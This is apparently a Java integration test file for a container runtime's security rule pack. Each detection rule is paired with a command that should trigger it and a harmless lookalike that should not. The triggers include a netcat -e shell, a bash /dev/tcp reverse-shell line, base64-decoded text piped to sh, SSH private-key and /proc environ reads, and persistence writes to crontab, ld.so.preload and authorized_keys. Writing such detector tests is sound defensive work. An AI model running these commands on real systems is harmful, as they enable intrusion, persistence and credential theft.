package brig.tests.door;

import static org.assertj.core.api.Assertions.assertThat;

import brig.tests.AsRoot;
import brig.tests.Await;
import brig.tests.Brig;
import brig.tests.Ended;
import brig.tests.PolicyText;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collection;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Each rule of the shipped pack, fired by what it is about, in a container; and silent at what only looks like it. The
 * policy lets the calls go on: it is the rules that are tried, not the verdicts.
 */
@AsRoot
class RulePackIT {
    private static final Pattern FINDING = Pattern.compile("\"kind\":\"finding\".*?\"rule\":\"([^\"]+)\"");
    private static final PolicyText WATCHED = new PolicyText(new LinkedHashMap<>())
            .with("name", "watched")
            .with("extends", "baseline")
            .with("process", "{user: '0:0', capabilities: []}")
            .with("files", "{watch: true}")
            .with("syscalls", "{watch: [capset, io_uring_setup, clone, fork, vfork, chmod, fchmodat]}")
            .with("resources", "{memory: 256Mi, pids: 64}")
            .with("response", "{escape: alert, execute: alert, file: alert, network: alert, syscall: alert}");

    /** The rule, what fires it, what must not. A program need not be there to be asked for. */
    private static final String[][] CASES = {
        {"Shell under a server", script("/tmp/nginx", "/bin/sh -c id"), script("/tmp/builder", "/bin/sh -c id")},
        {"Program from a directory for scraps", "cp /bin/busybox /tmp/id && /tmp/id", "/bin/id /tmp/id"},
        {"Program without a file", "/bin/inside memfd-exec", "/bin/inside id"},
        {"Program from a deleted file", "/bin/inside deleted-exec /srv/gone", "/bin/inside exec-fd /bin/id"},
        {"Package manager in a running container", runs("/usr/bin/apt-get install x"), runs("/usr/bin/aptly x")},
        {"Download tool in a container", runs("/usr/bin/curl http://x"), runs("/usr/bin/curlew http://x")},
        {"Network tool in a container", runs("/usr/bin/nmap 10.0.0.1"), runs("/usr/bin/namei /nmap")},
        {"Netcat runs a program for who connects", runs("/usr/bin/ncat -l -p 99 -e /bin/sh"), runs("/bin/cat -e x")},
        {"Shell over the network", runs("/bin/bash -c cat>/dev/tcp/10.0.0.1/9"), runs("/bin/bash -c cat>/dev/null")},
        {"Miner by its words", runs("/srv/worker -o stratum+tcp://pool:1"), runs("/srv/worker -o tcp://strat:1")},
        {
            "Decoded text run by a shell",
            "/bin/sh -c 'echo aWQ= | /bin/base64 -d | sh'",
            "/bin/sh -c 'echo aWQ= | /bin/base64 -d | cat'"
        },
        {"Search for keys and passwords", runs("/bin/find / -name id_rsa"), runs("/bin/find /srv -name index.html")},
        {"Look at the machine from inside", runs("/sbin/capsh --print"), runs("/sbin/capshaw --print")},
        {"Client of an engine or of Kubernetes", runs("/usr/bin/kubectl get pods"), runs("/usr/bin/kubelet-x")},
        {
            "Bulk deletion",
            runs("/bin/dd if=/dev/zero of=/dev/sdz count=1"),
            runs("/bin/dd if=/dev/zero of=/srv/x count=1")
        },
        {"Setuid bit by command", runs("/bin/chmod 4755 /srv/x"), runs("/bin/chmod 0755 /srv/x")},
        {"Setuid bit set", "echo x > /srv/x; chmod 4755 /srv/x", "chmod 0755 /srv/www"},
        {
            "Cloud metadata address",
            "/bin/inside udp-connect 169.254.169.254 80",
            "/bin/inside udp-connect 169.254.1.1 80"
        },
        {"Port of a mining pool", "/bin/inside udp-connect 10.1.2.3 3333", "/bin/inside udp-connect 10.1.2.3 3334"},
        {"Socket of an engine", "/bin/inside unix /srv/docker.sock", "/bin/inside unix /srv/web.sock"},
        {"Secret file read", "/bin/inside readfile /root/.ssh/id_rsa", "/bin/inside readfile /root/.ssh/id_rsa.pub"},
        {"Environment of another process", "/bin/cat /proc/1/environ", "/bin/cat /proc/self/environ"},
        {"Write beneath program directories", "echo x > /usr/bin/x", "echo x > /srv/bin"},
        {"Preloaded library", "echo x > /etc/ld.so.preload", "/bin/cat /etc/ld.so.preload"},
        {"Scheduled task", "echo x > /etc/crontab", "echo x > /etc/crontab.txt"},
        {"Service installed", "echo x > /etc/rc.local", "echo x > /etc/rc.localised"},
        {"Key for who may log in", "echo x > /root/.ssh/authorized_keys", "/bin/cat /root/.ssh/authorized_keys"},
        {"Start-up file of a shell", "echo x > /etc/profile", "/bin/cat /etc/profile"},
        {"History removed", "/bin/inside unlink /root/.bash_history", "/bin/inside unlink /root/.bash_historian"},
        {"Log removed", "/bin/inside unlink /var/log/x", "/bin/inside unlink /var/logs"},
        {"Memory or device of the host", "/bin/inside openread /dev/mem", "/bin/inside openread /dev/zero"},
        {"Memory of another process", "/bin/inside openread /proc/1/mem", "/bin/inside openread /proc/1/maps"},
        {"Climbing path", "/bin/cat ../../../etc/passwd", "/bin/cat ../srv/www/index.html"},
        {"Mount", "/bin/inside mount tmpfs x /mnt", "/bin/cat /proc/mounts"},
        {"New or foreign namespace", "/bin/inside unshare uts", "/bin/inside namespaces"},
        {"User namespace", "/bin/inside unshare user", "/bin/inside namespaces"},
        {"Capabilities changed", "/bin/inside syscall 126 0 0", "/bin/inside syscall 125 0 0"},
        {"Queue of calls past the filter", "/bin/inside syscall 425 1 0", "/bin/inside rlimits"},
        {"Host path written", "echo x > /host/etc/x", "echo x > /srv/host"},
        {"Another process taken over", "/bin/inside process-vm", "/bin/inside signal-self 15"},
        {"Traced by its parent", "/bin/inside syscall 101 0", "/bin/inside status"},
        {"Kernel module", "/bin/inside delete_module", "/bin/cat /proc/modules"},
        {"Program in the kernel", "/bin/inside bpf", "/bin/inside caps"},
        {"Page faults handled by a program", "/bin/inside userfaultfd", "/bin/inside rlimits"},
        {"File by a handle", "/bin/inside open_by_handle /", "/bin/inside list /"},
        {"Raw or packet socket", "/bin/inside packet", "/bin/inside socket 2 2 0"}
    };

    private static final String CONNECTION = "Connection as standard input or output";

    @TempDir
    Path temp;

    private static String script(String file, String line) {
        return "printf '#!/bin/sh\\n%s\\ntrue\\n' > ".formatted(line) + file + " && chmod 755 " + file + " && " + file;
    }

    private static String runs(String words) {
        return "/bin/inside exec " + words.replace(">", "\\>");
    }

    private Ended run(int column) throws Exception {
        var lines = Arrays.stream(CASES)
                .map(row -> "( " + row[column] + " ) >/dev/null 2>&1")
                .toList();
        // as process 1 the shell would be told of orphans' ends, and a watched fork may fail by that
        // (docs/design/verdict.md)
        return rules().option("--init").run("/bin/sh", "-c", String.join("\n", lines) + "\nexit 0");
    }

    private Brig rules() throws Exception {
        return Brig.in(temp).policy(WATCHED).option("--rules", "containers", "--json");
    }

    private static List<String> fired(Ended ended) {
        return ended.err()
                .lines()
                .flatMap(line -> FINDING.matcher(line).results())
                .map(result -> result.group(1))
                .filter(rule -> !rule.equals(rule.toLowerCase(Locale.ROOT))) // not the rules over time
                .toList();
    }

    /** No pipeline: a watched fork may fail in busybox's shell while another child ends (docs/design/verdict.md). */
    private static final String SERVED_SHELL =
            "busybox httpd -p 127.0.0.1:7777; busybox timeout -s KILL 1 nc 127.0.0.1 7777 -e /bin/sh </dev/null";

    /** What each rule over time that ships is about, in one container; and what only looks like it, in another. */
    private static final String CHAINS = """
            printf '#!/bin/sh\\ntrue\\n' > /tmp/dropped; chmod 755 /tmp/dropped; /tmp/dropped
            /bin/id; /bin/cat /root/.ssh/id_rsa
            """ + SERVED_SHELL + """

            /bin/inside each unshare uts + mount tmpfs x /mnt + userfaultfd + bpf
            i=0; while [ $i -lt 70 ]; do ( : ); i=$((i+1)); done
            for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21; do echo x > /srv/f$i; mv /srv/f$i /srv/f$i.locked; done
            /bin/inside each udp 127.0.0.1 53$(for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do echo -n ' + udp 127.0.0.1 53 + udp 127.0.0.1 53'; done)
            """;

    private static final String CALL_THEN_SHELL = "\"call-then-shell\"";

    private static final List<String> CHAIN_RULES = List.of(
            "\"written-then-run\"",
            "\"write-chmod-run\"",
            "\"look-read-call\"",
            "\"escape-chain\"",
            "\"fork-storm\"",
            "\"suffix-burst\"",
            "\"dns-burst\"");

    /** Rules over time judge one event after the other: what is found in the last line was found after all before. */
    private static final String NO_CHAINS = """
            printf 'true' > /tmp/kept; chmod 755 /tmp/other; sh /tmp/kept
            cat /root/.ssh/id_rsa; cat /root/.ssh/id_rsa.pub; id
            /bin/inside each unshare uts + unshare uts + unshare uts
            for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21; do echo x > /srv/g$i.new; mv /srv/g$i.new /srv/g$i; done
            /bin/inside each udp 127.0.0.1 53 + udp 127.0.0.1 5353
            """ + SERVED_SHELL;

    /** The container waits until each of these rules has spoken: rules over time take their time. */
    private Ended untilFound(String script, Collection<String> rules) throws Exception {
        var told = Files.createDirectory(temp.resolve("told"));
        var started = rules().with("network", "{listen: [7777], connect: ['127.0.0.1:7777']}")
                .volume(told, "/told")
                .command(
                        "/bin/sh",
                        "-c",
                        "( " + script + "\n) >/dev/null 2>&1; until [ -e /told/seen ]; do sleep 1; done")
                .start();
        try {
            Await.until(() -> started.hasSaid(rules) || !started.process().isAlive(), rules + " speak");
        } catch (AssertionError e) {
            started.process().destroy();
            throw e;
        } finally {
            Files.createFile(told.resolve("seen"));
        }
        return started.end(60);
    }

    @Test
    void chainsOfStepsAreSeenInAContainer() throws Exception {
        var all = new ArrayList<>(CHAIN_RULES);
        all.add(CALL_THEN_SHELL);

        var ended = untilFound(CHAINS, all);

        assertThat(ended.err()).as(ended.toString()).contains(all);
    }

    @Test
    void whatOnlyLooksLikeAChainIsNone() throws Exception {
        var ended = untilFound(NO_CHAINS, List.of(CALL_THEN_SHELL));

        assertThat(ended.code()).as(ended.toString()).isZero();
        assertThat(ended.err()).as(ended.toString()).contains(CALL_THEN_SHELL).doesNotContain(CHAIN_RULES);
    }

    @Test
    void eachRuleIsFiredByWhatItIsAbout() throws Exception {
        var ended = run(1);

        assertThat(ended.code()).as(ended.toString()).isZero();
        assertThat(new TreeSet<>(fired(ended)))
                .as(ended.toString())
                .containsAll(Stream.of(CASES).map(row -> row[0]).toList());
    }

    /** {@code clone3} has its flags in memory, {@code fchmod} no path. */
    @Test
    void theSameByAnotherCallFiresTheRuleToo() throws Exception {
        var ended = rules().with("syscalls", "{watch: [clone3, fchmod]}")
                .run("/bin/sh", "-c", "/bin/inside fchmod 1 4755 > /tmp/x; /bin/inside clone3-ns user; exit 0");

        assertThat(fired(ended))
                .as(ended.toString())
                .contains("Setuid bit set", "New or foreign namespace", "User namespace");
    }

    /** Written elsewhere and put in its place: no file there was ever opened. */
    @Test
    void aFileThatIsMovedToWhereItWorksFiresTheRuleToo() throws Exception {
        var ended = rules().run("/bin/sh", "-c", """
                for i in 1 2 3 4; do echo x > /srv/m$i; done; mkdir -p /root/.ssh
                mv /srv/m1 /etc/ld.so.preload; ln /srv/m2 /etc/crontab; mv /srv/m3 /etc/rc.local
                mv /srv/m4 /root/.ssh/authorized_keys; ln -s /srv/m2 /etc/inittab; exit 0
                """);

        assertThat(fired(ended))
                .as(ended.toString())
                .contains("Preloaded library", "Scheduled task", "Service installed", "Key for who may log in");
    }

    @Test
    void aConnectionOnStandardInputIsSeenAndAFileThereIsNot() throws Exception {
        var dup = rules().with("syscalls", "{watch: [dup, dup2, dup3]}")
                .with("network", "{listen: [7777], connect: ['127.0.0.1:7777']}");

        var shell = dup.run("/bin/sh", "-c", SERVED_SHELL + "; exit 0");
        var file = dup.run("/bin/sh", "-c", "/bin/cat < /etc/passwd > /srv/x; exit 0");

        assertThat(shell.err().lines().filter(line -> line.contains(CONNECTION)))
                .as(shell.toString())
                .anyMatch(line -> line.contains("127.0.0.1:7777") && line.contains("nc 127.0.0.1 7777"));
        assertThat(fired(file)).as(file.toString()).doesNotContain(CONNECTION);
    }

    @Test
    void noRuleIsFiredByWhatOnlyLooksLikeIt() throws Exception {
        var ended = run(2);

        assertThat(ended.code()).as(ended.toString()).isZero();
        // a server's script lies beneath /tmp as well
        assertThat(fired(ended))
                .as(ended.toString())
                .containsOnly("Program from a directory for scraps")
                .hasSize(1);
    }

    @Test
    void aRuleThatSaysSoEndsTheContainer() throws Exception {
        var ended = rules().run("/bin/sh", "-c", "echo x > /srv/release_agent; sleep 20; echo survived");

        assertThat(ended.code()).as(ended.toString()).isEqualTo(137);
        assertThat(ended.out()).doesNotContain("survived");
        assertThat(ended.err()).contains("\"rule\":\"Kernel helper changed\"", "\"verdict\":\"kill\"");
    }

    @Test
    void everyRuleOfThePackIsTriedHere() throws Exception {
        var listed = Brig.verb("rules", "list", "--json").run().out();

        var names = Pattern.compile("\"rule\":\"([^\"]+)\"")
                .matcher(listed)
                .results()
                .map(r -> r.group(1));
        assertThat(names)
                .containsExactlyInAnyOrderElementsOf(Stream.concat(
                                Stream.of(CASES).map(row -> row[0]), Stream.of("Kernel helper changed", CONNECTION))
                        .toList());
    }

    @Test
    void whatThePolicyDoesNotPutToTheMonitorIsNamed() throws Exception {
        var ended = Brig.in(temp)
                .policy(WATCHED.with("files", "{watch: false}"))
                .option("--rules", "containers")
                .run("/bin/true");

        assertThat(ended.code()).as(ended.toString()).isZero();
        assertThat(ended.err()).contains("blind under the policy watched");
    }

    @Test
    void aRuleFileWithAMistakeStartsNothing() throws Exception {
        var file = Files.writeString(temp.resolve("r.yaml"), "- rule: r\n  condition: proc.name like x\n");

        var ended = Brig.in(temp).policy(WATCHED).option("--rules", file).run("/bin/echo", "started");

        assertThat(ended.code()).as(ended.toString()).isEqualTo(125);
        assertThat(ended.out()).isEmpty();
        assertThat(ended.err()).contains("r.yaml:2:24: error: expected an operator behind proc.name");
    }
}
